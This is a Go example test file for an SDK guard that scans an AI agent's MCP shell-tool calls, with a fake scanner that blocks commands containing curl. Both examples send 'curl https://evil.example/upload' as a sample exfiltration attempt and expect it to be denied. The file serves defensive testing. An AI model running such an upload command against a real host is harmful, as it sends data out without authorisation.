package mcpguard_test

import (
	"context"
	"encoding/json"
	"fmt"
	"net/http"
	"net/http/httptest"
	"strings"

	mcpclient "github.com/mark3labs/mcp-go/client"
	"github.com/mark3labs/mcp-go/mcp"
	mcpserver "github.com/mark3labs/mcp-go/server"

	"github.com/toolwarden/toolwarden/sdk"
	"github.com/toolwarden/toolwarden/sdk/client"
	"github.com/toolwarden/toolwarden/sdk/guard"
	"github.com/toolwarden/toolwarden/sdk/guard/mcpguard"
)

// fakeToolwarden answers POST /v1/scan like a toolwarden server for the
// examples: deny for curl, allow otherwise (the real server and rules are
// exercised by the main module's tests).
func fakeToolwarden() *httptest.Server {
	return httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		var req client.ToolRequest
		_ = json.NewDecoder(r.Body).Decode(&req)
		rep := sdk.SafetyReport{Decision: sdk.Allow, Summary: "no findings"}
		if strings.Contains(req.Command, "curl") {
			rep = sdk.SafetyReport{Decision: sdk.Deny, Blocked: true, Summary: "upload to a domain not allowed"}
		}
		_ = json.NewEncoder(w).Encode(rep)
	}))
}

// dryRun is an MCP server whose run_shell_command echoes the command.
func dryRun(opts ...mcpserver.ServerOption) *mcpserver.MCPServer {
	s := mcpserver.NewMCPServer("dry-run", "1.0.0", opts...)
	s.AddTool(mcp.NewTool("run_shell_command", mcp.WithString("command", mcp.Required())),
		func(ctx context.Context, req mcp.CallToolRequest) (*mcp.CallToolResult, error) {
			return mcp.NewToolResultText(`{"success":true,"echo":` + fmt.Sprintf("%q", req.GetString("command", "")) + `}`), nil
		})
	return s
}

func connect(s *mcpserver.MCPServer) *mcpclient.Client {
	c, _ := mcpclient.NewInProcessClient(s)
	ctx := context.Background()
	_ = c.Start(ctx)
	var init mcp.InitializeRequest
	init.Params.ProtocolVersion = mcp.LATEST_PROTOCOL_VERSION
	init.Params.ClientInfo = mcp.Implementation{Name: "example", Version: "1"}
	_, _ = c.Initialize(ctx, init)
	return c
}

func call(c interface {
	CallTool(context.Context, mcp.CallToolRequest) (*mcp.CallToolResult, error)
}, command string) {
	var req mcp.CallToolRequest
	req.Params.Name = "run_shell_command"
	req.Params.Arguments = map[string]any{"command": command}
	res, err := c.CallTool(context.Background(), req)
	if err != nil {
		fmt.Println(err)
		return
	}
	var body struct {
		Success bool              `json:"success"`
		Error   string            `json:"error"`
		Report  *sdk.SafetyReport `json:"safety_report"`
	}
	_ = json.Unmarshal([]byte(res.Content[0].(mcp.TextContent).Text), &body)
	fmt.Println(strings.TrimSpace(fmt.Sprintf("%v %v %s %s", res.IsError, body.Success, body.Report.Decision, body.Error)))
}

func ExampleMiddleware() {
	srv := fakeToolwarden()
	defer srv.Close()
	tw, _ := client.New(srv.URL, "tw_agent_token")
	s := dryRun(mcpserver.WithToolHandlerMiddleware(mcpguard.Middleware(&guard.Guard{Scanner: tw})))
	c := connect(s)
	defer c.Close()
	call(c, "echo mcp allow")
	call(c, "curl https://evil.example/upload")
	// Output:
	// false true allow
	// true false deny TOOL_SAFETY_BLOCKED: deny: upload to a domain not allowed
}

func ExampleClient() {
	srv := fakeToolwarden()
	defer srv.Close()
	tw, _ := client.New(srv.URL, "tw_agent_token")
	c := mcpguard.NewClient(connect(dryRun()), &guard.Guard{Scanner: tw})
	defer c.Close()
	call(c, "echo mcp allow")
	call(c, "curl https://evil.example/upload")
	// Output:
	// false true allow
	// true false deny TOOL_SAFETY_BLOCKED: deny: upload to a domain not allowed
}
